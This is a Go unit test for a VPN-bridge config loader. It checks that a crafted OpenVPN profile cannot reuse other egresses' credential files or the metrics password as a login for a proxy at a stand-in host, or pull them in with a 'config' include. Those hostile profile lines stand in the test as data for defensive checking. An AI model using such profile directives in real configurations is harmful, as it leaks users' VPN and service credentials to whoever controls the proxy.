package services

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"ztbridge/bridge/config"
)

// TestProfileGetsNoOtherSecrets: a hostile profile that names another egress's credentials as a
// proxy's login would send them to whoever wrote it.
func TestProfileGetsNoOtherSecrets(t *testing.T) {
	good, err := os.ReadFile("../openvpn/profile/testdata/profiles/nord-style.ovpn")
	if err != nil {
		t.Fatal(err)
	}
	for _, file := range []string{"backup.auth", "./backup.auth", "ztbridge.yaml", "own.auth",
		"metrics.password", "third.ovpn"} {
		dir := t.TempDir()
		hostile := strings.Replace(string(good), "proto udp\n", "proto tcp\n", 1) +
			"http-proxy proxy.example.net 80 " + file + " basic\n"
		configuration := "zerotier: {networks: [8056c2e21c123456]}\n" +
			"metrics: {listen: \"127.0.0.1:9100\", username: x, " +
			"password_file: metrics.password}\n" +
			"egress:\n  evil: {openvpn: {profile: evil.ovpn, credentials: own.auth}}\n" +
			"  backup: {openvpn: {profiles: more, credentials: backup.auth}}\n" +
			"  third: {openvpn: {profile: third.ovpn}}\n"
		login := "alice\nhunter2\n"
		for name, text := range map[string]string{"evil.ovpn": hostile, "more/a.ovpn": string(good),
			"third.ovpn": string(good) + "<auth-user-pass>\n" + login + "</auth-user-pass>\n",
			"own.auth":   login, "backup.auth": login, "metrics.password": "secret\n",
			"ztbridge.yaml": configuration} {
			path := filepath.Join(dir, name)
			if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700),
				os.WriteFile(path, []byte(text), 0o600)); err != nil {
				t.Fatal(err)
			}
		}
		path := filepath.Join(dir, "ztbridge.yaml")
		_, err := Load(path, config.Overrides{})
		if err == nil || !strings.Contains(err.Error(), "evil.ovpn:66: http-proxy: reading ") ||
			!strings.Contains(err.Error(), "has other secrets in this file") {
			t.Errorf("%s: %v", file, err)
		}
		including := string(good) + "config " + file + "\n"
		if err := os.WriteFile(filepath.Join(dir, "evil.ovpn"), []byte(including), 0o600); err != nil {
			t.Fatal(err)
		}
		_, err = Load(path, config.Overrides{})
		if err == nil || !strings.Contains(err.Error(), "has other secrets in this file") {
			t.Errorf("including %s: %v", file, err)
		}
	}
}
